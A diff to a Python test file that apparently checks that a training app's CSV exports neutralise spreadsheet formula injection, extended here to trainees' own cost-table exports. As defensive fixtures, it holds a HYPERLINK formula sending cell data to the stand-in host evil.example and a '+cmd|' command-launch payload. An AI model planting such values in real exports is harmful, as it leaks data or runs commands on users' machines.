@@ -18,7 +18,7 @@ from trainer.core.csv_files import FORMULA_PREFIXES
 from trainer.domain import domain
 from trainer.extensions import db
 from trainer.models import Cohort, CohortMember, User
-from trainer.services.reports import cohort_report
+from trainer.services.reports import PROGRESS_TABLES, cohort_report
 
 EVIL = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
 EVIL_PLUS = "+cmd|' /C calc'!A0"
@@ -50,8 +50,11 @@ def _csv_urls(app, cohort_id: int) -> list[str]:
     for rule in app.url_map.iter_rules():
         if not rule.rule.endswith(".csv"):
             continue
-        assert rule.arguments <= {"cohort_id", "table"}, f"seed {rule.rule} in this test"
+        assert rule.arguments <= {"cohort_id", "table", "name"}, f"seed {rule.rule} in this test"
         url = rule.rule.replace("<int:cohort_id>", str(cohort_id))
+        if "<name>" in url:  # the signed-in trainee's own cost tables
+            urls += [url.replace("<name>", n) for n in PROGRESS_TABLES]
+            continue
         urls += [url.replace("<table>", t) for t in tables] if "<table>" in url else [url]
     return urls
 
@@ -74,6 +77,12 @@ def test_no_csv_export_cell_can_run_as_a_formula(app, client, auth, users, monke
     # The poisoned values were exported (as text), so the check above had something to find.
     for value in (EVIL, EVIL_PLUS, EVIL_AT, "-2+3", "\t=1"):
         assert "'" + value in seen, value
+    # A trainee named as a formula exports their own cost tables as text too.
+    auth.logout()
+    auth.login("coder0")
+    body = client.get("/progress/costs/claims.csv").get_data(as_text=True)
+    rows = list(csv.reader(io.StringIO(body)))
+    assert rows[1][:2] == ["'" + EVIL, "coder0"]
 
 
 def test_the_file_name_of_a_poisoned_cohort_is_inert_too(app, client, auth, users, monkeypatch):
